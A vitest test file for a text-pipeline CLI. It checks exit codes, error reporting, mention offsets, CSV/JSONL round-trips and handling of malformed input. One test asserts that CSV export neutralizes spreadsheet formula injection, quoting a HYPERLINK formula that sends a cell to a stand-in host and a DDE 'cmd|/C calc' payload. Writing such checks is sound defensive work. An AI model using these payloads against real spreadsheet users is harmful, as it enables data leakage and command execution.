/**
 * The command line on dirty input: exit codes (0 all processed, 1 some documents failed, 2 cannot
 * start, 3 failed while writing), the messages that say what to fix, errors.jsonl, exact mention
 * offsets, and CSV that reads back to the JSONL. Runs the built CLI (see cli-helpers.ts).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { parseConfig } from '../src/config.js';
import { listInputs, readInput } from '../src/io/read-inputs.js';
import { ingest } from '../src/stages/ingest.js';
import { fromCsv } from '../src/io/codec.js';
import { tableNames, tables, type Row } from '../src/tables.js';
import { copyScenarios, fixtures, readJsonl, runCli, tempDir, type CliResult } from './cli-helpers.js';

// Each test runs the CLI (about a second to load the model, more on a busy machine).
vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

/** The documented exit codes (src/cli.ts `exitCodes`, README), as numbers: the contract scripts rely on. */
const exitCodes = { ok: 0, someFailed: 1, cannotStart: 2, failed: 3 } as const;

const dirtyScenarios = ['invalid-utf8-input', 'utf16-with-bom', 'pdf-renamed-txt', 'empty-file', 'truncated-jsonl-line', 'jsonl-missing-text', 'duplicate-ids', 'bad-csv-row', 'crlf-and-nbsp', 'csv-injection'];

interface ErrorLine {
  file: string;
  line: number | null;
  doc_id: string | null;
  code: string;
  message: string;
}

/** Texts of every document the input holds, by id (first one wins, as in a run). */
async function textsById(input: string, maxFileBytes: number): Promise<Map<string, string>> {
  const config = parseConfig({ maxFileBytes });
  const { files } = await listInputs(input, config);
  const parse = ingest(config);
  const texts = new Map<string, string>();
  for (const f of files) {
    const read = await readInput(f, maxFileBytes);
    if (read.kind === 'file') for (const d of parse(read.file).docs) if (!texts.has(d.id)) texts.set(d.id, d.text);
  }
  return texts;
}

/** Every exported CSV, parsed back with csv-parse, equals its JSONL twin. */
function expectCsvMatchesJsonl(out: string): void {
  for (const name of tableNames) {
    const csv = readFileSync(join(out, `${name}.csv`), 'utf8');
    const jsonl = readJsonl<Row>(join(out, `${name}.jsonl`));
    expect(fromCsv(tables[name], csv), `${name}.csv`).toEqual(jsonl);
  }
}

describe('a run over dirty input', () => {
  let work: string;
  let result: CliResult;
  const maxFileBytes = 20_000;

  beforeAll(() => {
    work = tempDir('cli-dirty');
    const input = join(work, 'input');
    copyScenarios(input, dirtyScenarios);
    mkdirSync(join(input, 'symlink-loop', 'inner'), { recursive: true });
    symlinkSync('..', join(input, 'symlink-loop', 'inner', 'back-up'));
    symlinkSync('missing-story.txt', join(input, 'symlink-loop', 'dangling.txt'));
    execFileSync('mkfifo', [join(input, 'symlink-loop', 'pipe.txt')]);
    writeFileSync(join(input, 'too-large.txt'), `Oversized file\n${'A line of filler words. '.repeat(1000)}\n`);
    writeFileSync(join(work, 'pipeline.config.json'), JSON.stringify({ maxFileBytes }));
    result = runCli(['--input', 'input', '--output', 'out'], work);
  });
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  it('completes with exit code 1 and names the failures on stderr', () => {
    expect(result.stderr).not.toContain('internal error');
    expect(result.status).toBe(exitCodes.someFailed);
    expect(result.stderr).toMatch(/^\d+ document\(s\) or line\(s\) failed \(details in .*out\/errors\.jsonl\):$/m);
    // The first failures (in file order) are shown with their code; errors.jsonl has them all.
    const errors = readJsonl<ErrorLine>(join(work, 'out', 'errors.jsonl'));
    expect(result.stderr).toContain(`${errors.length} document(s) or line(s) failed`);
    expect(result.stderr).toContain(`  ${errors[0]!.message} [${errors[0]!.code}]\n`);
  });

  it('reports each bad document once in errors.jsonl, by file and line, sorted', () => {
    const errors = readJsonl<ErrorLine>(join(work, 'out', 'errors.jsonl'));
    const expected: Array<[string, number | null, string]> = [];
    for (const s of dirtyScenarios) {
      const golden = JSON.parse(readFileSync(join(fixtures, s, 'expected', 'ingest.json'), 'utf8')) as { failures: Array<{ file: string; line: number | null; code: string }> };
      for (const f of golden.failures) expected.push([`${s}/${f.file}`, f.line, f.code]);
    }
    expected.push(
      ['duplicate-ids/b.jsonl', 1, 'INPUT_DUPLICATE_ID'],
      ['symlink-loop/dangling.txt', null, 'INPUT_UNREADABLE'],
      ['symlink-loop/inner/back-up', null, 'INPUT_LINK_LOOP'],
      ['symlink-loop/pipe.txt', null, 'INPUT_UNREADABLE'],
      ['too-large.txt', null, 'INPUT_TOO_LARGE'],
    );
    const key = (e: [string, number | null, string]): string => JSON.stringify(e);
    expect(errors.map((e) => key([e.file, e.line, e.code])).sort()).toEqual(expected.map(key).sort());
    const order = errors.map((e) => [e.file, e.line ?? 0] as const);
    expect(order).toEqual([...order].sort((a, b) => (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : a[1] - b[1])));
    for (const e of errors) expect(e.message.startsWith(e.file)).toBe(true);
    const report = JSON.parse(readFileSync(join(work, 'out', 'run-report.json'), 'utf8')) as { documents: { failed: number } };
    expect(report.documents.failed).toBe(errors.length);
  });

  it('keeps every good document', () => {
    const docs = readJsonl<{ doc_id: string; source: string }>(join(work, 'out', 'documents.jsonl'));
    const expected: string[] = [];
    for (const s of dirtyScenarios) {
      const golden = JSON.parse(readFileSync(join(fixtures, s, 'expected', 'ingest.json'), 'utf8')) as { docs: Array<{ source: string; line: number | null }> };
      for (const d of golden.docs) expected.push(`${s}/${d.source}${d.line === null ? '' : `:${d.line}`}`);
    }
    const firstSame = expected.indexOf('duplicate-ids/b.jsonl:1');
    expected.splice(firstSame, 1); // the second "same" id is reported, not read
    const lines = readJsonl<{ source: string; line: number | null }>(join(work, 'out', 'documents.jsonl'));
    expect(lines.map((d) => `${d.source}${d.line === null ? '' : `:${d.line}`}`).sort()).toEqual(expected.sort());
    expect(docs.length).toBe(expected.length);
  });

  it('gives mention offsets that slice the document text to the mention, CRLF, tabs, NBSP and other scripts included', async () => {
    const texts = await textsById(join(work, 'input'), maxFileBytes);
    const mentions = readJsonl<{ doc_id: string; start: number; end: number; text: string }>(join(work, 'out', 'mentions.jsonl'));
    expect(mentions.some((m) => m.doc_id === 'crlf-and-nbsp/2025-03-08-harbour')).toBe(true);
    for (const m of mentions) {
      const text = texts.get(m.doc_id);
      expect(text, m.doc_id).toBeDefined();
      expect(text!.slice(m.start, m.end), `${m.doc_id}:${m.start}-${m.end}`).toBe(m.text);
    }
  });

  it('writes CSV that reads back, through csv-parse, to the JSONL tables', () => {
    expectCsvMatchesJsonl(join(work, 'out'));
  });

  it('neutralizes every text cell a spreadsheet would run as a formula', () => {
    const documents = readFileSync(join(work, 'out', 'documents.csv'), 'utf8');
    expect(documents).toContain(`,"'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",`);
    expect(documents).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0,");
    expect(documents).toContain(",'-2+3 votes,");
    for (const name of tableNames) {
      const spec = tables[name];
      const rows = parse(readFileSync(join(work, 'out', `${name}.csv`), 'utf8')) as string[][];
      for (const row of rows.slice(1)) {
        row.forEach((cell, i) => {
          const type = spec.columns[i]!.type;
          if (type !== 'integer' && type !== 'number') expect(cell, `${name}.${spec.columns[i]!.name}`).not.toMatch(/^[=+\-@\t\r]/);
        });
      }
    }
  });
});

describe('exit codes', () => {
  let work: string;
  beforeAll(() => {
    work = tempDir('cli-codes');
    copyScenarios(join(work, 'good'), ['crlf-and-nbsp']);
    mkdirSync(join(work, 'empty-folder'));
  });
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  it('0 when every document was processed; export.excelBom starts every CSV with a BOM', () => {
    writeFileSync(join(work, 'bom.json'), JSON.stringify({ export: { excelBom: true } }));
    const r = runCli(['-i', 'good', '-o', 'out-ok', '-c', 'bom.json'], work);
    expect(r.stderr).not.toMatch(/failed|error/i);
    expect(r.status).toBe(exitCodes.ok);
    expect(r.stdout).toMatch(/2 documents/);
    const out = join(work, 'out-ok');
    for (const name of readdirSync(out).filter((n) => n.endsWith('.csv'))) expect(readFileSync(join(out, name), 'utf8').startsWith('\uFEFF'), name).toBe(true);
    expect(readFileSync(join(out, 'errors.jsonl'), 'utf8')).toBe('');
    expectCsvMatchesJsonl(out);
  });

  it('2 when the input does not exist, naming it and the option', () => {
    const r = runCli(['-i', 'no-such-folder', '-o', 'out-2a'], work);
    expect(r.status).toBe(exitCodes.cannotStart);
    expect(r.stderr).toMatch(/no-such-folder: no such file or folder \(give --input a file or folder of articles\)/);
  });

  it('2 when the input folder holds no articles', () => {
    const r = runCli(['-i', 'empty-folder', '-o', 'out-2b'], work);
    expect(r.status).toBe(exitCodes.cannotStart);
    expect(r.stderr).toMatch(/empty-folder: no input files match \*\*\/\*\.txt/);
  });

  it('2 on bad configuration, naming the key and the valid ones', () => {
    writeFileSync(join(work, 'bad.json'), JSON.stringify({ maxFileBites: 10 }));
    const r = runCli(['-i', 'good', '-o', 'out-2c', '-c', 'bad.json'], work);
    expect(r.status).toBe(exitCodes.cannotStart);
    expect(r.stderr).toMatch(/bad\.json: unknown key `maxFileBites`; valid keys are .*`maxFileBytes`/);
  });

  it('2 on a bad option value', () => {
    const r = runCli(['-i', 'good', '--workers', 'many'], work);
    expect(r.status).toBe(exitCodes.cannotStart);
    expect(r.stderr).toMatch(/expected a whole number from 0 up, got "many"/);
  });

  it('2, before any work, when a file is in the way of the output folder', () => {
    writeFileSync(join(work, 'taken'), 'x');
    const r = runCli(['-i', 'good', '-o', 'taken'], work);
    expect(r.status).toBe(exitCodes.cannotStart);
    expect(r.stderr).toMatch(/taken: cannot write the output here \(a file is in the way of the output folder\); give --output a folder you can write/);
  });

  it('3 when a table cannot be written, leaving no temporary or half-written file', () => {
    const out = join(work, 'out-3');
    mkdirSync(join(out, 'people.csv', 'blocker'), { recursive: true });
    const r = runCli(['-i', 'good', '-o', 'out-3'], work);
    expect(r.status).toBe(exitCodes.failed);
    expect(r.stderr).toMatch(/out-3\/people\.csv: cannot write the tables \(E[A-Z]+: a folder is in the way\); the tables already in .*out-3 are complete/);
    const names = readdirSync(out);
    expect(names.filter((n) => n.startsWith('.tmp-'))).toEqual([]);
    // Whatever was renamed into place before the failure is complete.
    for (const n of names.filter((x) => x.endsWith('.jsonl') && x !== 'errors.jsonl')) expect(() => readJsonl(join(out, n))).not.toThrow();
  });
});
